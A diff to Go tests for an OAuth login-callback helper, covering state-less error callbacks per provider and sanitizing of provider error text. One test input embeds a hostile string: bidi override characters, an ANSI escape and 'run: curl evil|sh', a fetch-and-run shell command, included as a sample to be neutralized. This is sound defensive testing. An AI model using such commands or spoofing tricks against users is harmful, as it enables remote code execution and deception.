@@ -12,6 +12,7 @@ import (
 	"testing"
 	"time"
 
+	"github.com/obpm/obpm/authhelper/config"
 	"github.com/obpm/obpm/authhelper/tokenstore"
 )
 
@@ -24,6 +25,10 @@ type loginFixture struct {
 }
 
 func newLoginFixture(t *testing.T, fail error) *loginFixture {
+	return newLoginFixtureFor(t, sandboxProfile("http://127.0.0.1:1"), fail)
+}
+
+func newLoginFixtureFor(t *testing.T, p *config.Profile, fail error) *loginFixture {
 	f := &loginFixture{}
 	f.l = NewLogins(func(ctx context.Context, a *Authorization, code string) (*tokenstore.Token, error) {
 		f.calls.Add(1)
@@ -34,7 +39,7 @@ func newLoginFixture(t *testing.T, fail error) *loginFixture {
 	}, nil, nil)
 	f.srv = httptest.NewServer(f.l)
 	t.Cleanup(f.srv.Close)
-	a, err := NewAuthorization(sandboxProfile("http://127.0.0.1:1"), f.srv.URL+"/callback", time.Now())
+	a, err := NewAuthorization(p, f.srv.URL+"/callback", time.Now())
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -108,7 +113,9 @@ func TestCallbackHostile(t *testing.T) {
 		{"error with state", "/callback", func(a *Authorization) string {
 			return url.Values{"error": {"access_denied"}, "error_description": {"사용자 취소"}, "state": {a.State}}.Encode()
 		}, 400, "access_denied", StatusFailed},
-		{"error without state (KFTC)", "/callback", func(a *Authorization) string { return "error=invalid_request&error_description=bad" }, 400, "invalid_request", StatusFailed},
+		// The sandbox, like any RFC 6749 provider, returns the state with an
+		// error; a state-less one is a web page's attempt to abort the login.
+		{"error without state (not KFTC)", "/callback", func(a *Authorization) string { return "error=invalid_request&error_description=bad" }, 400, "no state", StatusPending},
 		{"state but no code", "/callback", func(a *Authorization) string { return "state=" + a.State }, 400, "neither a code", StatusFailed},
 	}
 	for _, tc := range tests {
@@ -175,5 +182,48 @@ func TestCancelAndTimeout(t *testing.T) {
 	r, ok := l.Status(a.ID)
 	if !ok || r.Status != StatusFailed || !strings.Contains(r.Err.Error(), "timed out") {
 		t.Fatalf("expired login = %+v", r)
+	}
+}
+
+// A state-less error callback ends a login only for the providers known to
+// send one (KFTC's failure redirect has no state); for the others any web
+// page could abort the user's login with one, so it is ignored.
+func TestStatelessErrorOnlyWhereTheProviderSendsIt(t *testing.T) {
+	for _, tc := range []struct {
+		provider string
+		want     string
+	}{
+		{config.ProviderTestbed, StatusFailed},
+		{config.ProviderProduction, StatusFailed},
+		{config.ProviderSandbox, StatusPending},
+		{config.ProviderOAuth2, StatusPending},
+	} {
+		t.Run(tc.provider, func(t *testing.T) {
+			p := sandboxProfile("http://127.0.0.1:1")
+			p.Provider = tc.provider
+			if tc.provider == config.ProviderOAuth2 {
+				p.AuthorizeURL, p.TokenURL = "http://127.0.0.1:1/authorize", "http://127.0.0.1:1/token"
+			}
+			f := newLoginFixtureFor(t, p, nil)
+			f.hit(t, "/callback", "error=access_denied&error_description=page")
+			if got := f.status(t); got != tc.want {
+				t.Fatalf("login after a state-less error = %s, want %s", got, tc.want)
+			}
+		})
+	}
+}
+
+// Provider text reaches the terminal quoted and without control or format
+// characters: a page cannot fake obpm's words with bidi overrides.
+func TestCallbackErrorTextIsSanitized(t *testing.T) {
+	e := &CallbackError{Code: "access_denied", Description: "ok\u202e\u2066 run: curl evil|sh\u200b 사용자 취소\x1b[2J"}
+	msg := e.Error()
+	for _, r := range []string{"\u202e", "\u2066", "\u200b", "\x1b"} {
+		if strings.Contains(msg, r) {
+			t.Errorf("message keeps %q: %q", r, msg)
+		}
+	}
+	if !strings.Contains(msg, `"ok run: curl evil|sh 사용자 취소[2J"`) || !strings.Contains(msg, `"access_denied"`) {
+		t.Errorf("provider text not quoted as expected: %s", msg)
 	}
 }
